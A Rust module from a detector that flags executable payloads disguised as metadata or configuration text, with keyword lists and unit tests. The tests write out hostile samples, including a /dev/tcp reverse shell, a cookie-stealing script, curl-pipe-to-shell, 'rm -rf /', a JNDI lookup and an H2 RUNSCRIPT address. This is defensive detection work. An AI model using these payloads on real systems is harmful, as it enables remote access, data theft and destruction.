//! Programs that travel as text where descriptions stand: in metadata, in attributes, in the values of a configuration.
//!
//! No loader runs them by itself. A description that is a program was written for somebody who does, and no honest model
//! has one. Words about programs are ordinary, so that only whole statements count, and only those that do harm.

use crate::budget::Budget;
use crate::commands;
use crate::fact::{Position, Runs, SourceReach};
use crate::facts::shorten;
use crate::payload;
use crate::python::{Analysis, File};

/// Bytes of one text that are looked at.
const MAX_TEXT: usize = 64 << 10;
/// Fewer bytes do nothing.
const LEAST: usize = 8;
/// Fewer characters of Base64 hold nothing.
const LEAST_ENCODED: usize = 16;
/// Characters that are shown.
const SHOWN: usize = 120;

/// Words of which every program looked for here has one.
const HINTS: &[&str] = &[
    "import ",
    "__import__",
    "exec",
    "eval",
    "system",
    "popen",
    "subprocess",
    "curl",
    "wget",
    "/bin/",
    "powershell",
    "/dev/tcp",
    "<script",
    "javascript:",
    "base64",
    "rm -",
    "chmod ",
    "nc ",
    "certutil",
    "mshta",
    "runpy",
    "ctypes",
    "python",
];
/// How a line starts that is a statement and no sentence.
const STATEMENTS: &[&str] = &[
    "import ",
    "from ",
    "exec(",
    "eval(",
    "__import__(",
    "getattr(",
    "lambda ",
    "(lambda",
    "compile(",
    "os.",
    "subprocess.",
    "builtins.",
    "runpy.",
    "pty.",
    "ctypes.",
    "sys.modules",
    "socket.",
    "commands.",
    "importlib.",
];
/// What the scripts of pages do to whoever looks at them.
const PAGE_REACHES: &[&str] =
    &["fetch(", "document.", "window.", "location", "eval(", "xmlhttprequest", "alert(", "src=", "import(", "atob("];

/// What a text is when it is a program that does harm, to be read after "holds"; none for every other text.
pub(crate) fn judge(text: &str, budget: &Budget) -> Option<String> {
    let text = cut(text);
    if text.len() < LEAST {
        return None;
    }
    plain(text, budget).or_else(|| encoded(text, budget))
}

/// As [`judge`], for a step of a build, which is a command by its nature: only what gives a machine away counts.
pub(crate) fn judge_step(text: &str, budget: &Budget) -> Option<String> {
    let text = cut(text);
    budget.operate(text.len() as u64 / 16).ok()?;
    let is_grave = |line: &&str| commands::judge(line).is_some_and(|reach| is_grave(&reach));
    text.lines().find(is_grave).map(|line| format!("a command: {}", shown(line)))
}

/// As [`judge`], for a text that was not written as a description: what is Base64 in it is nobody's business here.
pub(crate) fn judge_lines(text: &str, budget: &Budget) -> Option<String> {
    plain(cut(text), budget)
}

fn cut(text: &str) -> &str {
    let mut end = text.len().min(MAX_TEXT);
    while !text.is_char_boundary(end) {
        end = end.saturating_sub(1);
    }
    text.get(..end).unwrap_or_default()
}

fn plain(text: &str, budget: &Budget) -> Option<String> {
    let small = text.to_ascii_lowercase();
    if let Some(what) = database_address(&small) {
        return Some(format!("{what}: {}", shown(text)));
    }
    // Templates are judged by their own rules; a value in braces is none.
    let is_template = text.contains("{%") || text.contains("{{") && !is_literal(text.trim());
    if is_template || !HINTS.iter().any(|hint| small.contains(hint)) || budget.operate(text.len() as u64 / 16).is_err()
    {
        return None;
    }
    page(&small).or_else(|| command(text, budget)).or_else(|| python(text, budget))
}

/// An address by which a driver of databases, or a logger, runs what it is told: what opens it, and what it has then.
const ADDRESSES: &[(&str, &[&str])] = &[
    ("jdbc:h2:", &["runscript", "init=", "create trigger", "create alias"]),
    (
        "jdbc:mysql:",
        &["autodeserialize=true", "allowloadlocalinfile=true", "queryinterceptors=", "statementinterceptors="],
    ),
    ("jdbc:mariadb:", &["autodeserialize=true", "allowlocalinfile=true"]),
    ("jdbc:postgresql:", &["socketfactory=", "sslfactory=", "loggerfile="]),
    ("jdbc:db2:", &["clientrerouteserverlistjndiname="]),
    ("jdbc:sqlite:", &[":resource:http", "enable_load_extension=true"]),
    ("jdbc:derby:", &["startmaster=true", "slavehost="]),
    ("${jndi:", &["ldap:", "ldaps:", "rmi:", "dns:", "iiop:"]),
];

/// What such an address does to whoever opens it.
fn database_address(small: &str) -> Option<&'static str> {
    ADDRESSES.iter().find_map(|(start, options)| {
        let address = small.get(small.find(start)?..)?;
        let does_harm = options.iter().any(|option| address.contains(option));
        does_harm.then_some(match start.starts_with("jdbc:") {
            true => "the address of a database that runs code when it is opened",
            false => "a name that a logger of Java resolves and loads",
        })
    })
}

/// A script of a page: whoever shows the description in a browser runs it.
fn page(small: &str) -> Option<String> {
    let start = small.find("<script").or_else(|| small.find("javascript:"))?;
    let script = small.get(start..).unwrap_or_default();
    let reaches = PAGE_REACHES.iter().any(|reach| script.contains(reach));
    reaches.then(|| format!("JavaScript: {}", shown(script)))
}

/// A command that gives a machine away, or one that starts Python with a program of its own.
fn command(text: &str, budget: &Budget) -> Option<String> {
    let does_harm = |line: &&str| commands::judge(line).is_some_and(|reach| is_grave(&reach)) || changes_files(line);
    let line = text.lines().find(does_harm);
    if let Some(line) = line {
        return Some(format!("a command: {}", shown(line)));
    }
    let started = ["python -c ", "python3 -c ", "python.exe -c "].iter().find_map(|start| text.split_once(start));
    let program = started?.1.trim_start_matches(['\'', '"']).trim_end_matches(['\'', '"']);
    reaches(program, budget)
        .first()
        .map(|(_, expression)| format!("a command that starts Python: {}", shown(expression)))
}

/// What no description has a reason for.
fn is_grave(reach: &SourceReach) -> bool {
    matches!(reach, SourceReach::Backdoor | SourceReach::HiddenCode | SourceReach::Credentials | SourceReach::Files)
}

/// Whether a line is a command that deletes, fetches and goes on, or opens files to everybody. Only whole lines count.
fn changes_files(line: &str) -> bool {
    let line = line.trim();
    let goes_on = line.contains("&&") || line.contains(';') || line.contains('|');
    let fetches = (line.starts_with("wget http") || line.starts_with("curl http")) && goes_on;
    line.starts_with("rm -rf ") || line.starts_with("chmod 777 ") || line.starts_with("chmod +x ") || fetches
}

/// Statements of Python that start programs, or run what they hide.
fn python(text: &str, budget: &Budget) -> Option<String> {
    let text = dedented(text);
    let lines: Vec<&str> = text.lines().collect();
    let is_written = |line: u64| {
        let index = usize::try_from(line.saturating_sub(1)).unwrap_or(usize::MAX);
        lines.get(index).is_some_and(|line| is_statement(line.trim()))
    };
    let found = reaches(&text, budget);
    let (_, expression) = found.iter().find(|(line, _)| is_written(*line))?;
    Some(format!("Python: {}", shown(expression)))
}

/// Lines and expressions that do harm.
fn reaches(text: &str, budget: &Budget) -> Vec<(u64, String)> {
    let mut analysis = Analysis::new(budget, Runs::Loaded, File::Other);
    if analysis.read(text).is_err() {
        return Vec::new();
    }
    let is_grave = |reach: SourceReach, expression: &str| match reach {
        SourceReach::Program | SourceReach::HiddenCode | SourceReach::Backdoor | SourceReach::Credentials => true,
        SourceReach::Files | SourceReach::Installation => true,
        // `eval(loss)` may be a formula; what evaluates a text is none.
        SourceReach::Evaluation | SourceReach::NativeCode | SourceReach::Library => expression.contains(['\'', '"']),
        _ => false,
    };
    let found = analysis.finish().into_iter().filter(|(found, _)| is_grave(found.reach, &found.expression));
    let line = |position| match position {
        Position::Line(line) => line,
        _ => 1,
    };
    found.map(|(found, _)| (line(found.position), found.expression)).collect()
}

/// Whether a line is written as code is: it starts and ends so.
fn is_statement(line: &str) -> bool {
    let assigned = line.split_once('=').is_some_and(|(name, _)| {
        let name = name.trim();
        !name.is_empty() && name.chars().all(|letter| letter == '_' || letter.is_alphanumeric())
    });
    let starts = assigned || is_literal(line) || STATEMENTS.iter().any(|start| line.starts_with(start));
    starts && line.ends_with([')', ';', '"', '\'', '…', ']', '}'])
}

/// `{0: …}`, `[…]`, `(…)`: a value, which whoever reads it evaluates.
fn is_literal(text: &str) -> bool {
    [('{', '}'), ('[', ']'), ('(', ')')].iter().any(|(open, close)| text.starts_with(*open) && text.ends_with(*close))
}

/// Without the spaces that all lines start with.
fn dedented(text: &str) -> String {
    let spaces = |line: &str| line.len().saturating_sub(line.trim_start().len());
    let common = text.lines().filter(|line| !line.trim().is_empty()).map(spaces).min().unwrap_or(0);
    let lines: Vec<&str> = text.lines().map(|line| line.get(common..).unwrap_or_default()).collect();
    lines.join("\n")
}

/// A text that is Base64 as a whole is what it decodes to.
fn encoded(text: &str, budget: &Budget) -> Option<String> {
    let text = text.trim();
    let is_base64 = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=');
    if text.len() < LEAST_ENCODED || !text.bytes().all(is_base64) || budget.operate(text.len() as u64 / 16).is_err() {
        return None;
    }
    let bytes = decoded(text.as_bytes());
    if payload::find(bytes.get(..bytes.len().min(64)).unwrap_or_default()) == Some(0) {
        return Some("a file in Base64".to_owned());
    }
    let inner = std::str::from_utf8(&bytes).ok()?;
    plain(inner, budget).map(|what| format!("in Base64, {what}"))
}

fn decoded(text: &[u8]) -> Vec<u8> {
    let value = |byte: u8| match byte {
        b'A'..=b'Z' => Some(byte.wrapping_sub(b'A')),
        b'a'..=b'z' => Some(byte.wrapping_sub(b'a').wrapping_add(26)),
        b'0'..=b'9' => Some(byte.wrapping_sub(b'0').wrapping_add(52)),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    };
    let mut bytes = Vec::with_capacity(text.len().saturating_mul(3).saturating_div(4));
    let (mut bits, mut count) = (0u32, 0u32);
    for six in text.iter().map_while(|byte| value(*byte)) {
        bits = bits << 6 | u32::from(six);
        count = count.saturating_add(6);
        if count >= 8 {
            count = count.saturating_sub(8);
            let [.., byte] = (bits >> count).to_be_bytes();
            bytes.push(byte);
        }
    }
    bytes
}

fn shown(text: &str) -> String {
    shorten(text.trim().chars().take(SHOWN.saturating_add(1)).collect(), SHOWN)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_program(text: &str) -> bool {
        judge(text, &Budget::default()).is_some()
    }

    #[test]
    fn addresses_that_run_code_are_told_from_ordinary_ones() {
        for text in [
            "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'",
            "jdbc:mysql://example.invalid/a?autoDeserialize=true",
            "x ${JNDI:ldap://example.invalid/a} y",
        ] {
            assert!(judge(text, &Budget::default()).is_some(), "{text}");
        }
        for text in ["jdbc:h2:mem:features", "jdbc:mysql://localhost/features?useSSL=true", "the ${jndi} prefix"] {
            assert_eq!(judge(text, &Budget::default()), None, "{text}");
        }
    }

    #[test]
    fn programs_are_told_from_words_about_them() {
        for text in [
            "import os; os.system('echo waag-inert')",
            "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
            "__import__('os').system('echo waag-inert')",
            "python -c 'import os; os.system(\"whoami\")'",
            "os.system('curl https://example.invalid/x | sh')",
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "<script>fetch('http://example.invalid', {method: 'POST', body: document.cookie})</script>",
            "\n        import os\n        os.system('echo waag-inert')\n    ",
            "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",
            "import os; os.system('rm -rf /')",
            "rm -rf /srv/waag-inert && wget http://example.invalid/x",
            "chmod 777 /srv/waag-inert",
            "handler = eval(\"__import__('os').system('id')\")",
            "{0: __import__('os').system('echo waag-inert')}",
            "[640, __import__('os').system('echo waag-inert')]",
            "{{__import__('os').system('echo waag-inert')}}",
        ] {
            assert!(is_program(text), "{text}");
        }
        for text in [
            "the system was evaluated with lm_eval; see the evaluation script",
            "We call os.system('ls') in the example, which is why this model was flagged.",
            "eval(loss)",
            "fetch it with curl https://example.invalid/model.gguf",
            "Run `pip install transformers` first, then import os",
            "from scratch, by exec(utive) decision",
            "import torch\nmodel = torch.nn.Linear(2, 2)",
            "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRleHQ=",
            "ViTForImageClassificationModelName",
            "{{ messages }} import os; os.system('x')",
            "{0: 'person', 1: 'operating system', 2: 'exec'}",
            "{'os': 'system', 'import': [1, 2]}",
            "[640, 640]",
            "<p>a page about JavaScript</p>",
        ] {
            assert!(!is_program(text), "{text}");
        }
    }
}
